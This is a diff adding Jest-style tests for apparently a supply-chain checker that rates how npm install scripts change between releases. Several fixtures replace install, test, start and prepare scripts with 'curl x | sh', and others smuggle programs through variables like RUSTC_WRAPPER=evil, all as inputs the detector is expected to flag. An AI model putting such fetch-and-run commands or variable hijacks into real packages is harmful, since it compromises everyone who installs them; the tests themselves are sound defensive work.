@@ -326,3 +326,81 @@ it("a script of which only the beginning is kept is another one", () => {
   expect(change({ postinstall: "run-s a*" }, { postinstall: "run-s a*", ...many })).toBe("other");
   expect(change({ postinstall: "run-s a*", ...many }, { postinstall: "run-s a*", ...many })).toBe("other");
 });
+
+it.each<readonly [string, Scripts, Scripts]>([
+  // A script may be called as a word of the package manager.
+  [
+    "npm exec",
+    { install: "npm run setup", setup: "node a" },
+    { install: "npm exec setup", setup: "node a", exec: "echo" },
+  ],
+  ["npm i", { install: "npm run setup", setup: "node a" }, { install: "npm i setup", setup: "node a", i: "true" }],
+  [
+    "pnpm dlx",
+    { install: "pnpm run setup", setup: "node a" },
+    { install: "pnpm dlx setup", setup: "node a", dlx: "true" },
+  ],
+  ["bun x", { install: "bun run setup", setup: "node a" }, { install: "bun x setup", setup: "node a", x: "true" }],
+  [
+    "another folder",
+    { install: "npm run setup", setup: "node a" },
+    { install: "npm -C lib run setup", setup: "node a", "-C": "true", lib: "true" },
+  ],
+  [
+    "a package that is called so where there was no script",
+    {},
+    { install: "npm exec evil", exec: "echo", evil: "echo" },
+  ],
+  // Scripts that are run without `run`, and by other programs.
+  ...[
+    "npm t",
+    "npm restart",
+    "npm it",
+    "npm ci",
+    "nr test",
+    "lerna run test",
+    "turbo test",
+    "$npm_execpath run test",
+  ].map((text): readonly [string, Scripts, Scripts] => [
+    text,
+    { install: text, test: "node a", start: "node a", prepare: "node a" },
+    { install: text, test: "curl x | sh", start: "curl x | sh", prepare: "curl x | sh" },
+  ]),
+  [
+    "run-script-os",
+    { install: "npx run-script-os", "install:linux": "node a" },
+    { install: "npx run-script-os", "install:linux": "curl x | sh" },
+  ],
+  [
+    "per-env",
+    { install: "per-env", "install:production": "node a" },
+    { install: "per-env", "install:production": "curl x | sh" },
+  ],
+  // Variables that name a program.
+  ...["CC_target", "RUSTC_WRAPPER", "CPP", "CMAKE_C_COMPILER"].map((name): readonly [string, Scripts, Scripts] => [
+    name,
+    { install: "make it" },
+    { install: `${name}=evil make it` },
+  ]),
+])("%s: another script", (_, before, after) => {
+  expect(change(before, after)).toBe("other");
+});
+
+it.each([
+  ["node install.js", "node install.cjs", "none"],
+  ["node scripts/postinstall.js", "node ./scripts/postinstall.mjs", "none"],
+  ["prebuild-install -r napi || x", "prebuild-install --runtime napi --tag-prefix=@acme/x@ || x", "mild"],
+  ["prebuild-install || node-gyp rebuild", "pkg-prebuilds-verify || node-gyp rebuild", "mild"],
+])("%j, then %j: %s", (before, after, expected) => {
+  expect(change({ install: before }, { install: after })).toBe(expected);
+});
+
+it("what another established release ran is mild", () => {
+  const [now, before, other] = [
+    release({ install: "node b" }, "0.9.1"),
+    release({ install: "node a" }, "0.9.0"),
+    release({ install: "node b" }, "1.0.0"),
+  ];
+  expect(changedScripts(now, before).map(({ isMild }) => isMild)).toEqual([false]);
+  expect(changedScripts(now, before, [other]).map(({ isMild }) => isMild)).toEqual([true]);
+});
